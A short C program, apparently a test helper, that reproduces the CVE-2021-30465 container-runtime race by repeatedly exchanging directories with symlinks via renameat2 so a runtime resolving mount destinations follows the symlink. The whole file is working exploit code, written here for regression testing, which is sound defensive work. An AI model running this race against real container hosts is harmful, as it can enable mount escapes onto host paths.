/*
 * exchange-race DIR TARGET NAME...
 *
 * The CVE-2021-30465 attacker: swaps each DIR/NAME (a directory) with a symlink to TARGET, over
 * and over, with renameat2(RENAME_EXCHANGE), so that a runtime resolving DIR/NAME as a mount
 * destination sometimes meets the symlink. Runs until SIGTERM or SIGINT; then puts the
 * directories back, removes the symlinks and prints how many swaps it made.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define MAX_NAMES 8

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	char links[MAX_NAMES][NAME_MAX + 1];
	unsigned long swaps[MAX_NAMES] = { 0 };
	unsigned long total = 0;
	int n = argc - 3;
	struct sigaction sa;

	if (argc < 4 || n > MAX_NAMES) {
		fprintf(stderr, "usage: exchange-race DIR TARGET NAME... (at most %d names)\n", MAX_NAMES);
		return 2;
	}
	int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dir < 0) {
		fprintf(stderr, "exchange-race: open %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	for (int i = 0; i < n; i++) {
		snprintf(links[i], sizeof links[i], ".%s.swap", argv[3 + i]);
		unlinkat(dir, links[i], 0);
		if (symlinkat(argv[2], dir, links[i]) < 0) {
			fprintf(stderr, "exchange-race: symlink %s: %s\n", links[i], strerror(errno));
			return 1;
		}
	}
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_signal;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	/* Tell the test the race is on. */
	printf("ready\n");
	fflush(stdout);
	while (!stop) {
		for (int i = 0; i < n; i++)
			if (renameat2(dir, argv[3 + i], dir, links[i], RENAME_EXCHANGE) == 0)
				swaps[i]++;
	}
	for (int i = 0; i < n; i++) {
		if (swaps[i] % 2 && renameat2(dir, argv[3 + i], dir, links[i], RENAME_EXCHANGE) == 0)
			swaps[i]++;
		unlinkat(dir, links[i], 0);
		total += swaps[i];
	}
	printf("%lu\n", total);
	return 0;
}
